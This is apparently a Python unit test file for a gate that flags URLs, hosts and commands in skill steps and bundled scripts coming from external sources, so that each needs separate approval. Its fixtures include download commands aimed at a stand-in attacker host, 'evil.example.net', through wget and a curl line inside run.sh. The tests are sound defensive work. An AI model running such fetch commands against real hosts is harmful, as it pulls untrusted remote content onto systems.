"""What came from outside and would be believed word for word must be ticked, each thing by itself."""

from __future__ import annotations

import pytest

from tacit.domain.origin import Origin
from tacit.domain.skill import Condition, Provenance, SkillContent, SkillFile, SkillStep, said_in
from tacit.gate import examined
from tests.unit.making import bash_steps, content

WRITTEN = Provenance(made_by="ann")


def keys(made: SkillContent, **external: Origin) -> list[str]:
    """Keys to tick; every field is a person's but for those that are named."""
    origins = dict.fromkeys(said_in(made), Origin.USER)
    origins |= {name.replace("_", "."): origin for name, origin in external.items()}
    return [literal.key for literal in examined(made, origins, provenance=WRITTEN).literals]


CURL = SkillStep(text="Fetch it", tool="Bash", arguments={"command": "curl https://api.example.com/v1 -o out.json"})


def test_a_url_and_its_host_from_outside_are_asked_for():
    found = keys(content(steps=(CURL,)), steps_0=Origin.EXTERNAL)
    assert {"url:https://api.example.com/v1", "host:api.example.com", "command:curl"} <= set(found)


@pytest.mark.parametrize("origin", [Origin.AGENT, Origin.USER, Origin.OPERATOR])
def test_what_was_not_from_outside_is_never_asked_for(origin):
    made = content(steps=(CURL,))
    assert keys(made, steps_0=origin) == []


def test_only_the_field_from_outside_counts():
    made = content(steps=(CURL, *bash_steps("wget https://evil.example.net/x")), body="See https://docs.example.org/a")
    found = keys(made, steps_1=Origin.EXTERNAL)
    assert "host:evil.example.net" in found
    assert not any("api.example.com" in key or "docs.example.org" in key for key in found)


def test_the_same_thing_twice_is_asked_for_once():
    made = content(steps=(CURL, CURL))
    found = keys(made, steps_0=Origin.EXTERNAL, steps_1=Origin.EXTERNAL)
    assert len(found) == len(set(found))
    assert "host:api.example.com" in found


def test_a_program_that_nobody_knows_is_a_command_all_the_same():
    found = keys(content(steps=bash_steps("frobnicate --all")), steps_0=Origin.EXTERNAL)
    assert "command:frobnicate" in found


def test_a_script_inside_a_command_is_read_too():
    found = keys(content(steps=bash_steps("bash -c 'frobnicate --all'")), steps_0=Origin.EXTERNAL)
    assert "command:frobnicate" in found


def test_the_check_of_a_condition_is_a_command():
    made = content(postconditions=(Condition(text="it works", check="frobnicate --verify"),))
    assert "command:frobnicate" in keys(made, postconditions_0=Origin.EXTERNAL)
    assert keys(made) == []


def test_moving_between_folders_is_no_command_to_tick():
    assert keys(content(steps=bash_steps("cd src && pwd")), steps_0=Origin.EXTERNAL) == []


def test_arguments_from_outside_make_their_step_a_stranger():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.USER) | {"steps.0.arguments": Origin.EXTERNAL}
    assert examined(made, origins, provenance=WRITTEN).literals


def test_a_field_whose_origin_nobody_noted_counts_as_from_outside():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.USER)
    del origins["steps.0"]
    assert examined(made, origins, provenance=WRITTEN).literals
    listed = {**origins, "steps": Origin.USER}
    assert not examined(made, listed, provenance=WRITTEN).literals, "an entry has the origin of its list"


def test_a_bundled_script_from_outside_is_looked_at():
    made = content(files=(SkillFile(path="run.sh", content="#!/bin/sh\ncurl https://evil.example.net/a\n"),))
    assert "host:evil.example.net" in keys(made, files_0=Origin.EXTERNAL)


def test_a_literal_names_its_field_and_its_key():
    made = content(steps=(CURL,))
    origins = dict.fromkeys(said_in(made), Origin.EXTERNAL)
    [host] = [each for each in examined(made, origins, provenance=WRITTEN).literals if each.kind == "host"]
    assert (host.key, host.field, host.origin) == ("host:api.example.com", "steps.0", Origin.EXTERNAL)
